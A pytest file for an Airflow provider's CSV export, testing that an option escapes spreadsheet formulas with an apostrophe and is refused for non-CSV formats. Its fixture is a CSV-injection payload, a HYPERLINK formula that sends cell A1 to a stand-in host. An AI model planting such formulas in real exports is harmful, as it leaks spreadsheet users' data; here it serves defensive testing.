"""CSV exports whose cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from airflow_provider_retreaver.core.errors import InvalidArgument
from tests.airflow.support.account import Account
from tests.airflow.support.exports import END, START, Calls, contents, export, manifest_of

pytestmark = pytest.mark.airflow
WINDOW = {"start": START, "end": END}
FORMULA = '=HYPERLINK("http://x.test/?a="&A1,"open")'


@pytest.mark.parametrize(("escape", "cell"), [(False, FORMULA), ("true", f"'{FORMULA}")])
def test_formulas_are_escaped_by_choice(account: Account, tmp_path: Path, escape, cell):
    """With `csv_escape_formulas`, an apostrophe stands before a formula; the manifest says so."""
    Calls(account).add(1, caller_city=FORMULA)
    result = export(destination=f"file://{tmp_path}", format="csv", csv_escape_formulas=escape, **WINDOW)
    [content] = contents(result)
    [row] = csv.DictReader(io.StringIO(content.decode(), newline=""))
    assert row["caller_city"] == cell
    assert row["caller"].startswith("+")
    assert manifest_of(result)["csv_escape_formulas"] is bool(escape)


def test_other_formats_are_refused(account: Account, tmp_path: Path):
    """Only CSV has cells that a spreadsheet would run."""
    with pytest.raises(InvalidArgument, match="csv_escape_formulas belongs to format='csv'"):
        export(destination=f"file://{tmp_path}", csv_escape_formulas=True, **WINDOW)
    assert account.sent() == []
